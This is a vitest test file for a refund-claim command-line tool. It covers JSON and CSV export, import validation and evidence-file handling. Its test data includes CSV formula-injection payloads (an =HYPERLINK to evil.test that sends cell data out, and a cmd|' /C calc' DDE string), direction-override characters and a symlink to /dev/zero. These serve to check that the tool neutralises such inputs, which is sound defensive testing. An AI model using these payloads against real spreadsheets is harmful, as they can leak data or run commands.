import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ClaimJson } from '../../src/app/formats/claim-json.js';
import { claimFlags, dataDirOf, promoteFlags } from '../helpers/cli.js';
import { runCli } from '../helpers/in-process.js';
import { buildEveryStatus, EVERY_STATUS } from '../helpers/every-status.js';
import { parseCsv, SPEC_CSV_HEADER } from '../helpers/csv.js';
import { pngBytes } from '../helpers/files.js';
import { sha256Of } from '../helpers/zip.js';
import { tempDir } from '../helpers/temp.js';

const IDS = EVERY_STATUS.map((_, index) => `RC-${String(index + 1).padStart(4, '0')}`);

/** Every view a user or script has of a data directory, as text. */
async function views(home: string, ids = IDS): Promise<Record<string, string>> {
  const shown: Record<string, string> = {};
  for (const id of ids) {
    const result = await runCli(['show', id, '--json'], { home });
    expect(result.code, result.stderr).toBe(0);
    shown[id] = result.stdout;
  }
  shown.list = (await runCli(['list', '--json'], { home })).stdout;
  shown.status = (await runCli(['status', '--json'], { home })).stdout;
  return shown;
}

// Building eleven claims through the real commands takes a while: once for the whole file.
let source: string;
let backup: string;
let evidenceDir: string;
let original: Record<string, string>;

beforeAll(async () => {
  source = mkdtempSync(join(tmpdir(), 'refund-claim-source-'));
  await buildEveryStatus(source);
  backup = join(source, 'backup.json');
  evidenceDir = join(source, 'evidence-copy');
  const exported = await runCli(['export', '--out', backup, '--with-evidence', evidenceDir], { home: source });
  expect(exported.code, exported.stderr).toBe(0);
  expect(exported.stdout).toBe('');
  expect(exported.stderr).toBe(`Exported 11 claims to ${backup}.\nCopied 3 evidence files to ${evidenceDir}.\n`);
  original = await views(source);
}, 120_000);

afterAll(() => rmSync(source, { recursive: true, force: true }));

describe('export and import', () => {
  it('covers every status in the set it round-trips', () => {
    const statuses = IDS.map((id) => (JSON.parse(original[id] ?? '{}') as { status: string }).status);
    expect(statuses).toEqual([...EVERY_STATUS]);
  });

  it('writes a versioned file whose claims are exactly what show --json prints', () => {
    const file = JSON.parse(readFileSync(backup, 'utf8')) as Record<string, unknown> & { claims: unknown[] };
    expect(Object.keys(file)).toEqual(['format', 'version', 'exportedAt', 'accounts', 'claims']);
    expect(file).toMatchObject({ format: 'refund-claim-export', version: 2, exportedAt: '2026-11-20T12:00:00.000Z' });
    expect(file.accounts).toEqual([
      {
        name: 'Acme Shoes',
        advertiserId: '7012345678901',
        email: 'ads@acme.test',
        agency: null,
        salesRep: null,
        updatedAt: expect.any(String),
      },
      {
        name: 'Café Lumière',
        advertiserId: null,
        email: 'hello@cafe.test',
        agency: null,
        salesRep: null,
        updatedAt: '2026-11-01T09:00:00.000Z',
      },
    ]);
    expect(file.claims).toEqual(IDS.map((id) => JSON.parse(original[id] ?? '') as unknown));
  });

  it('restores every claim into a fresh data directory exactly: show --json, list and status are identical', async () => {
    const target = tempDir();
    const result = await runCli(['import', backup, '--with-evidence', evidenceDir], { home: target });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toBe(`${IDS.join('\n')}\n`);
    expect(result.stderr).toBe(`Imported 11 claims from ${backup}.\nCopied 3 evidence files.\n`);
    expect(await views(target)).toEqual(original);
    // The evidence came along: the completeness check finds every stored copy intact.
    const check = await runCli(['check', '8'], { home: target });
    expect(check.stdout).not.toMatch(/missing|altered/);
    expect(readdirSync(join(dataDirOf(target), 'evidence')).sort()).toEqual(readdirSync(evidenceDir).sort());
    // And exporting it again gives the same file, byte for byte.
    const again = await runCli(['export'], { home: target });
    expect(again.stdout).toBe(readFileSync(backup, 'utf8'));
  });

  it('says so when the evidence files are not brought along', async () => {
    const target = tempDir();
    const result = await runCli(['import', backup], { home: target });
    expect(result.code).toBe(0);
    expect(result.stderr).toContain(
      'Evidence files are not included: 3 of 3 files the claims use are not in this data directory, and `refund-claim verify <id>` will report them missing.',
    );
    // Bringing them afterwards: the same file, skipping the claims already here.
    const later = await runCli(['import', backup, '--with-evidence', evidenceDir, '--on-conflict', 'skip'], {
      home: target,
    });
    expect(later.code, later.stderr).toBe(0);
    expect(later.stdout).toBe('');
    expect(later.stderr).toContain('Copied 3 evidence files.');
    expect((await runCli(['check', '8'], { home: target })).stdout).not.toMatch(/missing/);
  });

  it('refuses IDs that already exist with exit 1, naming them and the flag, and imports nothing', async () => {
    const target = tempDir();
    expect((await runCli(claimFlags({ '--promotion-id': '999' }), { home: target })).code).toBe(0);
    const before = (await runCli(['list', '--json'], { home: target })).stdout;
    const result = await runCli(['import', backup, '--with-evidence', evidenceDir], { home: target });
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toBe(
      'error: RC-0001 already exists in this data directory; nothing was imported.\n' +
        '  Pass --on-conflict skip to keep the existing claims, or --on-conflict renumber to import them under new IDs.\n',
    );
    expect((await runCli(['list', '--json'], { home: target })).stdout).toBe(before);
    expect(existsSync(join(dataDirOf(target), 'evidence'))).toBe(false);
  });

  it('skips or renumbers taken IDs when told to', async () => {
    const target = tempDir();
    await runCli(claimFlags({ '--promotion-id': '999' }), { home: target });
    await runCli(claimFlags({ '--promotion-id': '998' }), { home: target });
    const mine = await runCli(['show', '1', '--json'], { home: target });

    const renumbered = await runCli(['import', backup, '--on-conflict', 'renumber'], { home: target });
    expect(renumbered.code, renumbered.stderr).toBe(0);
    expect(renumbered.stdout.trim().split('\n')).toEqual(['RC-0012', 'RC-0013', ...IDS.slice(2)]);
    expect(renumbered.stderr).toContain('Renumbered (the ID was taken): RC-0001 → RC-0012, RC-0002 → RC-0013.');
    expect((await runCli(['show', '1', '--json'], { home: target })).stdout).toBe(mine.stdout);
    const moved = await runCli(['show', '12', '--json'], { home: target });
    // The same claim under its new ID, which keeps the old one as an alias.
    expect(moved.stdout).toBe(
      (original['RC-0001'] ?? '')
        .replace('"id": "RC-0001"', '"id": "RC-0012"')
        .replace('"aliases": []', '"aliases": [\n    "RC-0001"\n  ]'),
    );
    for (const id of IDS.slice(2))
      expect((await runCli(['show', id, '--json'], { home: target })).stdout).toBe(original[id]);

    const skipped = await runCli(['import', backup, '--on-conflict', 'skip'], { home: target });
    expect(skipped.code).toBe(0);
    expect(skipped.stderr).toContain(
      `Imported 0 claims from ${backup}.\nSkipped (already here, left as they are): ${IDS.join(', ')}.`,
    );
    expect(JSON.parse((await runCli(['list', '--json'], { home: target })).stdout)).toHaveLength(13);
  });

  it('reads the file from standard input with -', async () => {
    const target = tempDir();
    const result = await runCli(['import', '-'], { home: target, input: readFileSync(backup, 'utf8') });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain('Imported 11 claims from standard input.');
  });

  it('refuses a bad file with exit 2, naming the file and the problem, and writes nothing', async () => {
    const file = JSON.parse(readFileSync(backup, 'utf8')) as {
      version: number;
      claims: { status: string; amounts: Record<string, unknown>; events: { data: Record<string, unknown> }[] }[];
    };
    const variant = (change: (copy: typeof file) => void): string => {
      const copy = structuredClone(file);
      change(copy);
      return JSON.stringify(copy);
    };
    const cases: [string, string, string][] = [
      ['not json', '{"format": ', 'is not JSON ('],
      ['other json', '[1, 2]', 'bad.json: the file is not an object; nothing was imported.'],
      [
        'other format',
        '{"format": "something-else"}',
        'bad.json is not a refund-claim export (its "format" is "something-else"',
      ],
      [
        'newer version',
        variant((copy) => (copy.version = 3)),
        'bad.json is export version 3; this refund-claim reads version 2 and older. Nothing was imported.',
      ],
      [
        'bad amount in the last claim',
        variant((copy) => ((copy.claims[10]?.amounts ?? {}).charged = '12.345')),
        'bad.json: claims[10] (RC-0011).amounts.charged "12.345" has more than 2 decimals for USD; nothing was imported.',
      ],
      [
        'status that its events contradict',
        variant((copy) => ((copy.claims[5] ?? { status: '' }).status = 'approved')),
        `bad.json: claims[5] (RC-0006).status is "approved", but the claim's events make it "denied"; nothing was imported.`,
      ],
      [
        'unknown key in event data',
        variant((copy) => ((copy.claims[1]?.events[1] ?? { data: {} }).data.hack = 1)),
        'bad.json: claims[1] (RC-0002).events[1].data has an unknown key "hack"; nothing was imported.',
      ],
      [
        'move that does not fit',
        variant((copy) =>
          copy.claims[0]?.events.push({
            type: 'decision',
            at: '2026-11-20',
            note: null,
            recordedAt: '2026-11-20T12:00:00.000Z',
            data: { decision: 'approved' },
          } as never),
        ),
        'bad.json: claims[0] (RC-0001).events[2] (decision) cannot happen to a draft claim; nothing was imported.',
      ],
    ];
    for (const [name, text, message] of cases) {
      const target = tempDir();
      const path = join(target, 'bad.json');
      writeFileSync(path, text);
      const result = await runCli(['import', 'bad.json'], { home: target });
      expect({ name, code: result.code }).toEqual({ name, code: 2 });
      expect(result.stderr, name).toContain(message);
      expect(result.stderr.trimEnd().split('\n').length, name).toBeLessThanOrEqual(2);
      expect(JSON.parse((await runCli(['list', '--json'], { home: target })).stdout), name).toEqual([]);
    }
    const missing = await runCli(['import', 'nowhere.json'], { home: tempDir() });
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('import nowhere.json: cannot read it (no such file).');
  });

  it('applies the command line rules to every value, with exit 2 naming the place, and writes nothing', async () => {
    const file = JSON.parse(readFileSync(backup, 'utf8')) as { claims: ClaimJson[] };
    const nth = <T>(list: T[], index: number): T => {
      const item = list[index];
      if (item === undefined) throw new Error(`no item ${index}`);
      return item;
    };
    const variant = (change: (claims: ClaimJson[]) => void): string => {
      const copy = structuredClone(file);
      change(copy.claims);
      return JSON.stringify(copy, null, 2);
    };
    const cases: [string, string, string][] = [
      [
        'a direction control in an evidence name',
        variant((claims) => (nth(nth(claims, 0).evidence, 0).name = 'invoice\u202efdp.pdf')),
        'bad.json: claims[0] (RC-0001).evidence[0].name "invoice\\u202efdp.pdf" contains an invisible or direction-changing character (U+202E); nothing was imported.',
      ],
      [
        'a control character in a caption',
        variant((claims) => (nth(nth(claims, 0).evidence, 0).caption = 'Invoice\u0007')),
        'bad.json: claims[0] (RC-0001).evidence[0].caption "Invoice\\u0007" contains line breaks or control characters; nothing was imported.',
      ],
      [
        'a line break in a ticket number',
        variant((claims) => {
          nth(claims, 1).ticketNumber = 'T-2\r\nT-3';
          const filed = nth(nth(claims, 1).events, 1);
          if (filed.type !== 'submitted') throw new Error(`events[1] is ${filed.type}`);
          filed.data.ticket = 'T-2\r\nT-3';
        }),
        'bad.json: claims[1] (RC-0002).events[1].data.ticket "T-2\\r\\nT-3" contains line breaks or control characters; nothing was imported.',
      ],
      [
        'an escape sequence in a note',
        variant((claims) => (nth(nth(claims, 1).events, 1).note = 'Filed \u001b[2J')),
        'bad.json: claims[1] (RC-0002).events[1].note "Filed \\u001b[2J" contains line breaks or control characters; nothing was imported.',
      ],
      [
        'an event in the future',
        variant((claims) => (nth(nth(claims, 1).events, 1).at = '2026-11-22')),
        'bad.json: claims[1] (RC-0002).events[1].at "2026-11-22" is in the future; nothing was imported.',
      ],
      [
        'a history that does not start with its creation',
        variant((claims) => nth(claims, 1).events.reverse()),
        `bad.json: claims[1] (RC-0002).events[0] (submitted) is not "created"; a claim's history starts with its creation; nothing was imported.`,
      ],
      [
        'a second creation',
        variant((claims) => nth(claims, 0).events.push(nth(nth(claims, 0).events, 0))),
        'bad.json: claims[0] (RC-0001).events[2] (created) repeats the creation; a claim is created once; nothing was imported.',
      ],
      [
        'a claim ID whose next one no command accepts',
        variant((claims) => (nth(claims, 10).id = 'RC-999999999')),
        'bad.json: claims[10] (RC-999999999).id "RC-999999999" is too high; claim IDs go up to RC-999999998; nothing was imported.',
      ],
      [
        'an evidence number past what numbering handles',
        variant((claims) => (nth(nth(claims, 0).evidence, 0).id = 2 ** 53 - 1)),
        'bad.json: claims[0] (RC-0001).evidence[0].id is 9007199254740991; expected a whole number from 1 to 9999; nothing was imported.',
      ],
    ];
    for (const [name, text, message] of cases) {
      const target = tempDir();
      writeFileSync(join(target, 'bad.json'), text);
      const result = await runCli(['import', 'bad.json'], { home: target });
      expect({ name, code: result.code }).toEqual({ name, code: 2 });
      expect(result.stdout, name).toBe('');
      expect(result.stderr, name).toBe(
        `error: ${message}\n  Export the data again with \`refund-claim export\`, or correct the file.\n`,
      );
      expect(JSON.parse((await runCli(['list', '--json'], { home: target })).stdout), name).toEqual([]);
    }
    // The limit is one below the highest ID: the claim after it is still one every command reads.
    const target = tempDir();
    const highest = variant((claims) => {
      claims.splice(0, 10);
      nth(claims, 0).id = 'RC-999999998';
    });
    writeFileSync(join(target, 'high.json'), highest);
    expect((await runCli(['import', 'high.json'], { home: target })).code).toBe(0);
    expect((await runCli(claimFlags({ '--promotion-id': 'next' }), { home: target })).stdout).toBe('RC-999999999\n');
    expect((await runCli(['show', 'RC-999999999', '--json'], { home: target })).code).toBe(0);
  });

  it('refuses a size the evidence file brought along contradicts, with exit 2 naming the place', async () => {
    const file = JSON.parse(readFileSync(backup, 'utf8')) as { claims: ClaimJson[] };
    const [first] = file.claims[0]?.evidence ?? [];
    if (!first) throw new Error('RC-0001 has no evidence');
    const real = first.bytes;
    // The same file wherever it is used, so the file agrees with itself and only the copy can tell.
    for (const claim of file.claims)
      for (const item of claim.evidence) if (item.sha256 === first.sha256) item.bytes = 999;
    const target = tempDir();
    writeFileSync(join(target, 'sizes.json'), JSON.stringify(file));
    const result = await runCli(['import', 'sizes.json', '--with-evidence', evidenceDir], { home: target });
    expect(result.code).toBe(2);
    expect(result.stderr).toBe(
      `error: sizes.json: claims[0] (RC-0001).evidence[0].bytes is 999, but the file in the evidence folder is ${real} bytes; nothing was imported.\n` +
        '  Export the data again with `refund-claim export`, or correct the file.\n',
    );
    expect(JSON.parse((await runCli(['list', '--json'], { home: target })).stdout)).toEqual([]);
  });

  it('refuses a link or directory in place of a file in the evidence folder with exit 2, importing nothing', async () => {
    const [sum] = readdirSync(evidenceDir);
    if (!sum) throw new Error('no evidence was exported');
    const name = (JSON.parse(readFileSync(backup, 'utf8')) as { claims: ClaimJson[] }).claims
      .flatMap((claim) => claim.evidence)
      .find((item) => item.sha256 === sum)?.name;
    for (const [kind, plant] of [
      ['a symbolic link', (path: string) => symlinkSync('/dev/zero', path)],
      ['a directory', (path: string) => mkdirSync(path)],
    ] as const) {
      const folder = join(tempDir(), 'evidence-copy');
      cpSync(evidenceDir, folder, { recursive: true });
      rmSync(join(folder, sum));
      plant(join(folder, sum));
      const target = tempDir();
      const result = await runCli(['import', backup, '--with-evidence', folder], { home: target });
      expect(result.code, kind).toBe(2);
      expect(result.stderr).toBe(
        `error: Evidence "${name}" cannot be read: ${join(folder, sum)} is ${kind}, not a regular file; nothing was imported.\n` +
          '  Copy the evidence folder again from the original export, or import without --with-evidence.\n',
      );
      expect(JSON.parse((await runCli(['list', '--json'], { home: target })).stdout)).toEqual([]);
      expect(existsSync(join(dataDirOf(target), 'evidence'))).toBe(false);
    }
  });

  it('exports the claims but exits 1 when a stored copy cannot be carried along, naming it', async () => {
    const home = tempDir();
    writeFileSync(join(home, 'shot.png'), pngBytes(8, 8, 1));
    writeFileSync(join(home, 'other.png'), pngBytes(8, 8, 2));
    const created = await runCli([...claimFlags(), '--screenshot', 'shot.png', '--screenshot', 'other.png'], { home });
    expect(created.code, created.stderr).toBe(0);
    const stored = join(dataDirOf(home), 'evidence', sha256Of(join(home, 'shot.png')));
    rmSync(stored);
    mkdirSync(stored);
    const result = await runCli(['export', '--out', 'backup.json', '--with-evidence', 'copies'], { home });
    expect(result.code).toBe(1);
    expect(result.stderr).toBe(
      'Exported 1 claim to backup.json.\n' +
        'Copied 1 evidence file to copies.\n' +
        `error: evidence "shot.png" (${sha256Of(join(home, 'shot.png')).slice(0, 12)}…) is altered in the data directory; not copied.\n` +
        '  Run `refund-claim check <id>` on the claims that use it.\n',
    );
    expect(readdirSync(join(home, 'copies'))).toEqual([sha256Of(join(home, 'other.png'))]);
  });

  it('reads an export that starts with a byte-order mark, from a file and from standard input', async () => {
    const text = `\uFEFF${readFileSync(backup, 'utf8')}`;
    const target = tempDir();
    writeFileSync(join(target, 'bom.json'), text);
    const fromFile = await runCli(['import', 'bom.json'], { home: target });
    expect(fromFile.code, fromFile.stderr).toBe(0);
    expect(fromFile.stderr).toContain('Imported 11 claims from bom.json.');
    const fromStdin = await runCli(['import', '-'], { home: tempDir(), input: text });
    expect(fromStdin.code, fromStdin.stderr).toBe(0);
    expect(fromStdin.stderr).toContain('Imported 11 claims from standard input.');
  });

  it('refuses an export that is not valid UTF-8 with exit 2, naming the line, instead of saving U+FFFD', async () => {
    const lines = readFileSync(backup, 'utf8').split('\n');
    const index = lines.findIndex((line) => line.includes('"Winter sale'));
    // "Winter sale" with a Latin-1 "é" (0xE9), as an editor saving in the wrong encoding writes it.
    const bytes = Buffer.concat([
      Buffer.from(`${lines.slice(0, index).join('\n')}\n`),
      Buffer.from(lines[index]?.replace('é', '\u0000') ?? '', 'utf8').map((byte) => (byte === 0 ? 0xe9 : byte)),
      Buffer.from(`\n${lines.slice(index + 1).join('\n')}`),
    ]);
    const target = tempDir();
    writeFileSync(join(target, 'latin1.json'), bytes);
    const result = await runCli(['import', 'latin1.json'], { home: target });
    expect(result.code).toBe(2);
    expect(result.stderr).toBe(
      `error: import latin1.json: line ${index + 1} is not valid UTF-8.\n  Save the file as UTF-8 (Unicode) text and try again.\n`,
    );
    expect(JSON.parse((await runCli(['list', '--json'], { home: target })).stdout)).toEqual([]);
    const piped = await runCli(['import', '-'], { home: target, input: bytes });
    expect(piped.code).toBe(2);
    expect(piped.stderr).toContain(`error: import -: line ${index + 1} is not valid UTF-8.`);
    expect(JSON.parse((await runCli(['list', '--json'], { home: target })).stdout)).toEqual([]);
  });

  it('writes CSV only without --with-evidence, and refuses an --out in a missing directory', async () => {
    const home = tempDir();
    const csv = await runCli(['export', '--format', 'csv', '--with-evidence', 'x'], { home });
    expect(csv.code).toBe(2);
    expect(csv.stderr).toContain('--with-evidence goes with --format json');
    const out = await runCli(['export', '--out', join(home, 'no', 'such', 'dir.json')], { home });
    expect(out.code).toBe(2);
    expect(out.stderr).toContain('the directory');
    const format = await runCli(['export', '--format', 'xml'], { home });
    expect(format.code).toBe(2);
  });
});

describe('export --format csv', () => {
  const HOSTILE = {
    account: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    promotion: '+SUM(1+1)*cmd|" /C calc"!A0',
    description: '-2+3 looks like a sum; it is the start of the description, with "quotes", commas\nand a second line.',
    ticket: '@SUM(A1:A9)',
  };

  it('writes one row per claim with SPEC columns, neutralising formula injection', async () => {
    const home = tempDir();
    expect(
      (
        await runCli(
          claimFlags({
            '--account-name': HOSTILE.account,
            '--promotion-name': HOSTILE.promotion,
            '--description': HOSTILE.description,
          }),
          { home },
        )
      ).code,
    ).toBe(0);
    await runCli(['submit', '1', '--ticket', HOSTILE.ticket, '--on', '2026-11-18'], { home });
    await runCli(promoteFlags('PRM-7'), { home });
    const out = join(home, 'claims.csv');
    const result = await runCli(['export', '--format', 'csv', '--out', out], { home });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toBe(`Exported 2 claims to ${out}.\n`);
    const text = readFileSync(out, 'utf8');
    // A byte-order mark for Excel, CRLF line ends as RFC 4180 has them.
    expect(text.startsWith('\uFEFFid,status,')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toEqual(SPEC_CSV_HEADER);
    expect(rows.slice(1)).toEqual([
      [
        'RC-0001',
        'submitted',
        'tiktok-ads',
        'incorrect-charge',
        `'${HOSTILE.account}`,
        '7012345678901',
        '1790000001',
        `'${HOSTILE.promotion}`,
        'USD',
        '500.00',
        '200.00',
        '',
        `'${HOSTILE.ticket}`,
        'followup',
        '2026-11-23',
        '2026-11-20',
        `'${HOSTILE.description}`,
      ],
      [
        'RC-0002',
        'draft',
        'tiktok-promote',
        'accidental-charge',
        'Café Lumière',
        '',
        'PRM-7',
        '',
        'JPY',
        '5000',
        '5000',
        '',
        '',
        'submit',
        '2026-11-24',
        '2026-11-20',
        'A Promote boost was bought by accident from the shop phone.',
      ],
    ]);
    // No cell a spreadsheet would evaluate: each starts with something other than = + - @ tab CR.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Standard output by default.
    const piped = await runCli(['export', '--format', 'csv'], { home });
    expect(piped.stdout).toBe(text);
  });

  it('writes the header alone when there are no claims', async () => {
    const result = await runCli(['export', '--format', 'csv'], { home: tempDir() });
    expect(result.code).toBe(0);
    expect(parseCsv(result.stdout.slice(1))).toHaveLength(1);
  });
});
